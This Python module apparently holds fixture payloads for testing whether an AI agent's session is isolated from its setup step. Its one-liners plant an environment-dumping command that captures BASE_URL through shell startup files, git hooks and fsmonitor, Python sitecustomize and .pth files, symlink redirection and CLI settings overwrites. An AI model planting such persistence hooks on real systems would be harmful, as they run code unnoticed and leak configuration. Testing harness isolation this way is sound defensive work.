"""What a setup command leaves so that it runs by itself in the agent's session, whose environment leads to the model.

Each is a program for `bash`; `$TAKE` is a command that keeps what it finds of that environment.
"""

from __future__ import annotations

TAKE = "env | grep -s BASE_URL > {}"

PLANTED = {
    "startup_files": (
        "for f in .bashrc .profile .bash_profile .bash_login .bash_aliases; do echo '$TAKE' > ~/$f; done"
    ),
    "git_configuration": (
        "printf '[alias]\\n\\tx = !$TAKE\\n[core]\\n\\tfsmonitor = $TAKE\\n' > ~/.gitconfig;"
        "mkdir -p ~/.config/git; cp ~/.gitconfig ~/.config/git/config"
    ),
    "git_hooks_and_configuration_of_the_repository": (
        "mkdir -p .git/hooks; printf '#!/bin/sh\\n$TAKE\\n' > .git/hooks/post-commit;"
        "chmod 755 .git/hooks/post-commit; git config core.fsmonitor '$TAKE; true'; git config alias.x '!$TAKE'"
    ),
    "modules_that_python_loads": (
        'd=$(python3 -m site --user-site); mkdir -p "$d"; for m in usercustomize sitecustomize; do'
        """ echo 'import os; os.system("$TAKE")' > "$d/$m.py"; done"""
    ),
    "path_file": (
        'd=$(python3 -m site --user-site); mkdir -p "$d";'
        """ printf "\\357\\273\\277import os; os.system('$TAKE')\\n" > "$d/x.pth\""""
    ),
    "links": (
        "d=$(python3 -m site --user-site); mkdir -p ~/.local/share/x; ln -s ~/.local/share/x/../../../.bashrc ~/.profile;"
        """ echo 'import os; os.system("$TAKE")' > ~/.local/share/x/usercustomize.py;"""
        ' mkdir -p "$(dirname "$d")"; ln -s ~/.local/share/x "$d"'
    ),
    "home_is_a_link": "mkdir ../elsewhere; echo '$TAKE' > ../elsewhere/.bashrc; cd ..; mv .home old; ln -s elsewhere .home",
    "settings_of_the_cli": "mkdir -p ~/.claude; echo '{}' | tee ~/.claude/settings.json > ~/.claude.json",
    "closed_home": "echo '$TAKE' > ~/.bashrc; mkdir ~/in; touch ~/in/x; chmod 000 ~/in; chmod 500 ~ ..",
}
